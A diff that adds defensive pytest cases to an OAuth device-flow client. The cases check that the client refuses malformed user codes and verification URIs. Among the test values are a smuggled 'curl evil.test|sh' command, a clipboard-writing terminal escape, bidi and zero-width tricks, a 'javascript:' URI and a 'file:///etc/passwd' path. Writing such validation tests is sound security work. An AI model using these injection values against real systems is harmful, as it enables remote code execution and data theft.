@@ -313,6 +313,34 @@ def test_a_redirect_is_not_followed(server: DeviceServer, elsewhere: DeviceServe
         ({"verification_uri": None}, "no codes"),
         ({"expires_in": True}, "no codes"),
         ({"expires_in": "1800"}, "no codes"),
+        *(
+            ({"user_code": code}, "user code")
+            for code in (
+                "\x1b]52;c;cHduZWQ=\x07",
+                "WDJB-MJHT\ncurl evil.test|sh",
+                "WDJB;MJHT",
+                "AB\u202eCD",
+                "AB\u200bCD",
+                "\u3164\u2800",
+                " - ",
+                "B" * 65,
+                "B" * 900_000,
+            )
+        ),
+        *(
+            ({name: address}, "address")
+            for name in ("verification_uri", "verification_uri_complete")
+            for address in (
+                "javascript:alert(1)",
+                "file:///etc/passwd",
+                "-flag",
+                "/device",
+                "https://example.test/\x1b[31m",
+                "https://example.test/\u202e",
+                "https://ada@example.test/",
+                "https://example.test/" + "x" * 2_000,
+            )
+        ),
     ],
 )
 def test_codes_that_are_not_whole_are_refused(
@@ -321,6 +349,12 @@ def test_codes_that_are_not_whole_are_refused(
     server.answer_auth("/device/code", server.codes(**changes))
     with pytest.raises(BadAnswer, match=expected):
         request_codes(AuthServer(server.url), CLIENT_ID)
+
+
+@pytest.mark.parametrize("code", ["WDJB-MJHT", "abc.def_1 2", "код-123", "B" * 64])
+def test_code_that_a_human_can_compare_is_taken(server: DeviceServer, code: str) -> None:
+    server.answer_auth("/device/code", server.codes(user_code=code))
+    assert request_codes(AuthServer(server.url), CLIENT_ID).user_code == code
 
 
 @pytest.mark.parametrize("number", [1e308, 10**400, float(10**15)])
